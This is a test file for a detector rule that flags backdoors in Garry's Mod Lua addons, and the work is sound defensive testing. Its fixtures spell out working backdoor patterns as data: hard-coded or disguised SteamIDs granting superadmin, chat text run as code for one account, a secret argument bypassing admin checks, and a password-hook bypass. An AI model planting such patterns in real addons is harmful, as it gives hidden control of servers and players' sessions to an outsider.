// Valid and invalid cases of the `steamid_gate` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './steamid_gate.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('steamid_gate', () => {
  it('literal SteamID table grants superadmin', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local t = {["STEAM_0:1:1234567"] = true}\nhook.Add("PlayerInitialSpawn", "w", function(ply)\n if t[ply:SteamID()] then ply:SetUserGroup("superadmin") end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('literal SteamID64 comparison runs code', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "w", function(ply, text)\n if ply:SteamID64() == "76561198000000001" then RunString(text) end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('the SteamID built, kept, or handed over instead of written in the condition', () => {
    for (const code of [
      // built with string.format, compared through a local
      'local dev = string.format("STEAM_%d:%d:%d", 0, 1, 58302117)\nhook.Add("PlayerInitialSpawn", "m", function(ply)\n if ply:SteamID() == dev then ply:SetUserGroup("superadmin") end\nend)',
      // joined in the condition itself
      'hook.Add("PlayerSpawn", "m", function(p)\n if p:SteamID() == "STEAM_0:1:" .. 58302117 then p:SetUserGroup("superadmin") end\nend)',
      // the player's SteamID kept in a local first
      'hook.Add("PlayerSpawn", "m", function(p)\n local sid = p:SteamID()\n if sid == "STEAM_0:1:58302117" then p:SetUserGroup("superadmin") end\nend)',
      // the SteamID PlayerAuthed hands over, in a list
      'local VIPS = { "STEAM_0:1:9911223" }\nhook.Add("PlayerAuthed", "m", function(ply, sid)\n if table.HasValue(VIPS, sid) then ply:SetUserGroup("superadmin") end\nend)',
      // the same, from a gamemode hook declared as a method (its object comes first)
      'local VIPS = { "STEAM_0:1:9911223" }\nfunction GM:PlayerAuthed(ply, sid)\n if table.HasValue(VIPS, sid) then ply:SetUserGroup("superadmin") end\nend',
      // the SteamID PlayerAuthed hands over, looked up in a table of IDs
      'local vip = { ["STEAM_0:1:9911223"] = true }\nhook.Add("PlayerAuthed", "m", function(ply, sid)\n if vip[sid] then ply:SetUserGroup("superadmin") end\nend)',
      // compared as a number, in a helper the condition calls
      'local function isDev(p) return tonumber(p:SteamID64()) == 76561198000412233 end\nhook.Add("PlayerSay", "m", function(ply, txt)\n if txt == "!pp" and isDev(ply) then ply:SetUserGroup("superadmin") end\nend)',
      // numbers in a list, against the player's SteamID64 made a number
      'local ADM = { 76561198011112222, 76561198033334444 }\nhook.Add("PlayerInitialSpawn", "m", function(p)\n local id = tonumber(p:SteamID64())\n for _, v in ipairs(ADM) do if v == id then p:SetUserGroup("superadmin") end end\nend)',
      // a list walked by index
      'local ok = { "STEAM_0:1:4422911", "STEAM_0:0:5510293" }\nhook.Add("PlayerInitialSpawn", "m", function(ply)\n for i = 1, #ok do if ply:SteamID() == ok[i] then ply:SetUserGroup("superadmin") end end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it('the SteamID64 written as a number is shown with all its digits', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local ADM = { 76561198011112222 }\nhook.Add("PlayerInitialSpawn", "m", function(p)\n local id = tonumber(p:SteamID64())\n for _, v in ipairs(ADM) do if v == id then p:SetUserGroup("superadmin") end end\nend)',
    });
    expect(JSON.stringify(findings)).toContain('76561198011112222');
  });
  it('a helper that checks rank, not identity', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local function isStaff(p) return p:IsAdmin() end\nhook.Add("PlayerSay", "m", function(ply, txt)\n if txt == "!god" and isStaff(ply) then ply:GodEnable() end\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a player's SteamID compared with another player's", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "m", function(ply, text)\n local owner = ply:GetNWString("owner")\n if ply:SteamID() == owner then ply:ChatPrint("yours") end\nend)',
    });
    expect(findings).toEqual([]);
  });
  it('placeholder SteamIDs in an owner-edited list', () => {
    // All-zero account numbers name nobody: the owner is told to replace them.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local Admins = { "STEAM_0:0:00000000", "76561198000000000" }',
        'hook.Add("PlayerInitialSpawn", "a", function(ply)',
        '  if table.HasValue(Admins, ply:SteamID()) or table.HasValue(Admins, ply:SteamID64()) then ply:SetUserGroup("superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('author badge only', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'hook.Add("HUDPaint", "b", function()\n for _, p in ipairs(player.GetAll()) do if p:SteamID() == "STEAM_0:1:1234567" then draw.SimpleText("Author", "DermaDefault", 10, 10) end end\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("an owner's configured admin list, or'ed with a rank check", () => {
    const findings = check(rule, {
      'lua/printerpack/config.lua':
        'PrinterPack = PrinterPack or {}\nPrinterPack.Config = { AdminSteamIDs = { "STEAM_0:0:12345678" } }',
      'lua/autorun/server/sv_x.lua':
        'include("printerpack/config.lua")\nconcommand.Add("pp_menu", function(ply)\n if not IsValid(ply) then return end\n if not (ply:IsSuperAdmin() or table.HasValue(PrinterPack.Config.AdminSteamIDs, ply:SteamID())) then return end\n ply:ConCommand("pp_menu_cl")\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('the SteamID hidden behind a hash', () => {
    for (const code of [
      'local H = { ["3201848392"] = true }\nhook.Add("PlayerAuthed", "p", function(ply, sid)\n if H[util.CRC(sid .. "prestige")] then ply:SetUserGroup("superadmin") end\nend)',
      'hook.Add("PlayerInitialSpawn", "p", function(ply)\n if util.SHA256(ply:SteamID64()) == "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" then ply:SetUserGroup("superadmin") end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it("a player's SteamID hashed to key their saved data", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local cache = {}\nhook.Add("PlayerInitialSpawn", "p", function(ply)\n local key = util.CRC(ply:SteamID())\n cache[key] = cache[key] or { joins = 0 }\n cache[key].joins = cache[key].joins + 1\nend)',
    });
    expect(findings).toEqual([]);
  });
  it('a console command whose admin check a secret argument skips', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'concommand.Add("props_clean", function(ply, cmd, args)',
        ' if IsValid(ply) and not ply:IsAdmin() and args[1] ~= "7f3a" then return end',
        ' RunConsoleCommand("ulx", "adduser", args[2], "superadmin")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a chat command that leaves when the first word is not its name', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "rank", function(ply, text)',
        ' local args = string.Explode(" ", text)',
        ' if args[1] ~= "!setrank" then return end',
        ' if not ply:IsSuperAdmin() then return "" end',
        ' RunConsoleCommand("ulx", "adduser", args[2], args[3])',
        ' return ""',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a name prefix matched in method form, in a helper, granting a rank', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local function protected(p) return IsValid(p) and p:Nick():lower():find("^%[sd%]") ~= nil end',
        'hook.Add("PlayerInitialSpawn", "duty", function(ply)',
        ' timer.Simple(5, function() if protected(ply) then ply:SetUserGroup("superadmin") end end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("only the end of a player's ID compared with pieces written in the addon", () => {
    for (const code of [
      'local tails = { "419552", "908113" }\nhook.Add("PlayerSpawn", "m", function(p)\n local sid = p:SteamID64() or ""\n for _, t in ipairs(tails) do\n  if string.sub(sid, -#t) == t then p:SetUserGroup("superadmin") end\n end\nend)',
      'hook.Add("PlayerSpawn", "m", function(p)\n if string.Right(p:SteamID64(), 6) == "419552" then p:SetUserGroup("superadmin") end\nend)',
      'hook.Add("PlayerSpawn", "m", function(p)\n if p:SteamID():sub(-8) == "58302117" then p:SetUserGroup("superadmin") end\nend)',
    ]) {
      const findings = check(rule, { 'lua/autorun/server/sv_x.lua': code });
      expect(worst(findings), code).toBeGreaterThanOrEqual(RANK.critical);
    }
  });
  it("the start of a player's ID checked for its format (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSpawn", "m", function(p)\n local sid = p:SteamID() or ""\n if sid:sub(1, 6) ~= "STEAM_" then print("bot or unknown ID") return end\n p:SetNWString("sid", sid)\nend)',
    });
    expect(findings).toEqual([]);
  });
  it('a SteamID shifted by a constant so that it is never written out', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSpawn", "x", function(ply)',
        ' if tostring(tonumber(ply:SteamID64()) - 76561190000000000) == "8012345678" then ply:SetUserGroup("superadmin") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('players searched by name in an admin menu', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("find_player")',
        'net.Receive("find_player", function(len, ply)',
        ' if not ply:IsAdmin() then return end',
        ' local q = net.ReadString():lower()',
        ' for _, p in ipairs(player.GetAll()) do if p:Nick():lower():find(q, 1, true) then ply:ChatPrint(p:Nick()) end end',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a CheckPassword hook letting a hard-coded SteamID in, past the password and the bans', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("CheckPassword", "x", function(sid64, ip, svpass, clpass, name)',
        '  if sid64 == "76561198000000042" then return true end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a CheckPassword hook that checks bans and a whitelist the owner configures (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'MyGate = MyGate or { Config = { Whitelist = {} } }',
        'hook.Add("CheckPassword", "mygate", function(sid64, ip, svpass, clpass, name)',
        '  if MyGate.Config.Whitelist[sid64] then return true end',
        '  if svpass ~= "" and clpass ~= svpass then return false, "Wrong password" end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("a game event's connecting SteamID compared with a literal, then made superadmin", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'gameevent.Listen("player_connect")',
        'hook.Add("player_connect", "x", function(data)',
        '  if data.networkid == "STEAM_0:1:424242" then',
        '    timer.Simple(30, function() RunConsoleCommand("ulx", "adduserid", data.networkid, "superadmin") end)',
        '  end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a client convar set to a secret word, checked for every player', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("Think", "x", function()',
        '  for _, p in ipairs(player.GetAll()) do',
        '    if p:GetInfo("cl_backdoor_key") == "letmein" then p:SetUserGroup("superadmin") end',
        '  end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a client setting turning a feature on, and connections logged (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'gameevent.Listen("player_connect")',
        'hook.Add("player_connect", "log", function(data) print(data.name .. " (" .. data.networkid .. ") connecting") end)',
        'hook.Add("PlayerSpawn", "hud", function(ply)',
        '  if ply:GetInfo("cl_myhud_armor") == "true" then ply:SetArmor(50) end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a public chat command named by two words, starting a vote that changes the map', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local maps = { "gm_construct", "gm_flatgrass" }',
        'hook.Add("PlayerSay", "rtv", function(ply, text)',
        ' local t = string.lower(string.Trim(text))',
        ' if t ~= "!rtv" and t ~= "rtv" then return end',
        ' timer.Simple(30, function() RunConsoleCommand("changelevel", maps[math.random(#maps)]) end)',
        ' return ""',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
});
